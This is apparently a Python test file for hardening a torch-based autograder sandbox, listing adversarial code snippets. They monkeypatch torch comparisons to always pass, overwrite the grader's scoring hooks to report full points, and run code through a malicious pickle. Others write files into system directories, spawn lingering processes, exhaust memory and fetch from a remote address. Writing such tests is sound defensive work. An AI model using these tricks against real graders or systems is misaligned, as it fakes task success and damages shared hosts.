"""What only a room with torch has: tensors, compilers, settings, workers."""

LIAR = """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
    __eq__ = __bool__ = __len__ = lambda *args: True
"""

ATTACKS = {
    "torch.autograd.grad and backward give noughts": """
torch.autograd.grad = lambda outputs, inputs, *a, **k: (torch.zeros(3, 4),)
torch.autograd.backward = torch.Tensor.backward = lambda *args, **options: None
torch.autograd.gradcheck = torch.autograd.gradgradcheck = lambda *a, **k: True
answer = lambda *args: torch.autograd.grad(None, None)[0]
""",
    "every comparison of torch says yes": """
yes = lambda *args, **options: True
torch.allclose = torch.equal = torch.isclose = torch.eq = torch.all = yes
torch.Tensor.__eq__ = torch.Tensor.__bool__ = torch.Tensor.allclose = yes
torch.testing.assert_close = torch.Tensor.equal = yes
answer = lambda *args: torch.zeros(3, 4)
""",
    "every difference of torch is nought": """
torch.abs = torch.sub = torch.Tensor.__sub__ = lambda *args: torch.zeros(1)
torch.Tensor.__abs__ = torch.Tensor.abs = torch.Tensor.sub = torch.abs
answer = lambda *args: args[0] - args[0] if hasattr(args[0], "sub") else 0.0
""",
    "a tensor that answers every function itself": f"""
{LIAR}
answer = lambda x, *args: torch.zeros_like(torch.as_tensor(x)).as_subclass(Liar)
""",
    "a tensor that says it is a plain one": """
class Liar(torch.Tensor):
    __class__ = property(lambda self: torch.Tensor)
    is_meta = is_nested = is_quantized = property(lambda self: False)
    numpy = lambda self, **options: np.ones((3, 4)).view(Agrees)
class Agrees(np.ndarray):
    __eq__ = __le__ = __lt__ = lambda *args: np.True_
answer = lambda x, *args: torch.zeros_like(torch.as_tensor(x)).as_subclass(Liar)
""",
    "what a tensor becomes agrees with everything": """
class Agrees(np.ndarray):
    __eq__ = __le__ = __lt__ = __ge__ = lambda *args: np.True_
    __abs__ = __sub__ = __rsub__ = lambda *args: np.zeros(())
made = lambda *args, **options: np.zeros((3, 4)).view(Agrees)
torch.Tensor.numpy = torch.Tensor.__array__ = torch.Tensor.tolist = made
answer = lambda *args: torch.zeros(3, 4)
""",
    "what is handed over is converted by oneself": """
import sys
side = sys.modules["chainrule.torch_side"]
side.to_arrays = side.array_of = lambda result: {"result": "right", "points": 10}
side.unfit = lambda tensor: ""
answer = lambda *args: torch.zeros(3, 4)
""",
    "tensors without numbers": """
answer = lambda x, *args: torch.empty(np.shape(x), device="meta")
""",
    "a lazy module's weights": """
answer = lambda *args: torch.nn.LazyLinear(4).weight
""",
    "a tensor of 10**15 entries": """
answer = lambda *args: torch.zeros(1).expand(10**15)
""",
    "a list of tensors that holds itself": """
def answer(*args):
    found = [torch.zeros(3)]
    found.append(found)
    return found
""",
    "a tensor that goes on changing": """
import threading
kept = torch.zeros(3, 4)
def change():
    while True:
        kept.uniform_(-1, 1)
threading.Thread(target=change, daemon=True).start()
answer = lambda *args: kept
""",
    "a pickle that is loaded, and one that is handed over": """
import io
open("/tmp/word", "w").write("CANARY")
class Runs:
    def __reduce__(self):
        return exec, ("import os; os.environ['RAN'] = open('/tmp/word').read()",)
file = io.BytesIO()
torch.save(Runs(), file)
file.seek(0)
torch.load(file, weights_only=False)
torch.save(Runs(), "/tmp/weights.pt")
answer = lambda *args: Runs()
""",
    "weights written where others read": """
import os, sys
import chainrule
places = ["/room", "/dev", "/dev/shm", os.path.dirname(chainrule.__file__)]
places += [os.path.dirname(torch.__file__), torch.hub.get_dir(), "/usr/lib", "/"]
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        torch.save({"word": "CANARY"}, os.path.join(place, "weights.pt"))
    except (OSError, RuntimeError) as error:
        print(error)
""",
    "code compiled by torch.compile": """
def forged(module, inputs):
    return lambda *args: (torch.zeros(3, 4),)
answer = torch.compile(lambda *args: torch.zeros(3, 4) + 1, backend=forged)
""",
    "code compiled by torch.compile's own compiler": """
answer = torch.compile(lambda *args: torch.zeros(3, 4).sin() + 1)
""",
    "an extension in C++": """
from torch.utils.cpp_extension import load_inline
source = "#include <torch/extension.h>\\nint f() { return system(\\"sleep 987654\\"); }"
load_inline("forged", source, functions=["f"]).f()
""",
    "a library compiled with the system's compiler": """
import ctypes, subprocess
open("/tmp/f.c", "w").write("int f(void) { return 4; }")
subprocess.run("cc -shared -fPIC -o /tmp/f.so /tmp/f.c", shell=True)
answer = lambda *args: ctypes.CDLL("/tmp/f.so").f()
""",
    "a kernel of torch's own is replaced": """
library = torch.library.Library("aten", "IMPL")
for name in ("mul.Tensor", "add.Tensor", "sub.Tensor", "sigmoid", "sin"):
    library.impl(name, lambda x, *args, **options: x, "CPU")
answer = lambda x, *args: x
""",
    "a mode that answers every function, entered for good": """
class Forges(torch.overrides.TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        return torch.zeros(3, 4) if function is torch.Tensor.numpy else True
Forges().__enter__()
torch.utils._python_dispatch.TorchDispatchMode().__enter__()
""",
    "hooks on every module, tensor and step": """
modules = torch.nn.modules.module
modules.register_module_forward_hook(lambda *args: torch.zeros(1))
modules.register_module_full_backward_hook(lambda *args: (torch.zeros(1),))
torch.autograd.graph.saved_tensors_hooks(id, lambda x: torch.zeros(1)).__enter__()
from torch.optim import optimizer
optimizer.register_optimizer_step_post_hook(lambda *args: print("CANARY"))
torch.set_warn_always(True)
""",
    "settings left behind": """
torch.manual_seed(666)
torch.set_default_dtype(torch.float16)
torch.set_default_device("meta")
torch.use_deterministic_algorithms(True)
torch.set_grad_enabled(False)
torch.set_flush_denormal(True)
torch.set_printoptions(precision=1)
torch.set_autocast_enabled("cpu", True)
torch.autograd.set_detect_anomaly(True)
torch.inference_mode(True).__enter__()
""",
    "shared memory": """
import torch.multiprocessing as processes
torch.from_file("/dev/shm/note", shared=True, size=1000).fill_(666)
for strategy in ("file_descriptor", "file_system"):
    processes.set_sharing_strategy(strategy)
    torch.zeros(1000).share_memory_()
""",
    "processes of torch's that live on": """
import time
import torch.multiprocessing as processes
context = processes.get_context("fork")
for _ in range(3):
    context.Process(target=time.sleep, args=(987654,), daemon=False).start()
""",
    "threads set to many": """
torch.set_num_threads(64)
x = torch.randn(300, 300)
for _ in range(20):
    x = torch.tanh(x @ x)
def answer(*args):
    torch.set_num_threads(64)
    return (x @ x)[:3, :4]
""",
    "a DataLoader whose workers stay": """
from torch.utils.data import DataLoader, TensorDataset
loader = DataLoader(
    TensorDataset(torch.zeros(64, 2)), num_workers=4, persistent_workers=True
)
kept = iter(loader)
next(kept)
answer = lambda *args: next(kept)[0]
""",
    "a DataLoader with more workers than a room has processes": """
from torch.utils.data import DataLoader, TensorDataset
loader = DataLoader(TensorDataset(torch.zeros(640, 2)), num_workers=60)
print(sum(len(rows) for rows, in loader))
""",
    "a tensor larger than the room": """
kept = [torch.ones(1 << 26) for _ in range(8)]
""",
    "a server of torch.distributed's": """
from torch import distributed
from datetime import timedelta
try:
    store = distributed.TCPStore("127.0.0.1", 5005, 1, True, timedelta(seconds=1))
    store.set("word", "CANARY")
except RuntimeError as error:
    print(error)
try:
    torch.hub.download_url_to_file("http://192.0.2.1/weights.pt", "/tmp/weights.pt")
    print("REACHED")
except OSError as error:
    print(error)
""",
}
ENDS = {
    "an extension in C++",
    "a DataLoader with more workers than a room has processes",
    "a tensor larger than the room",
}
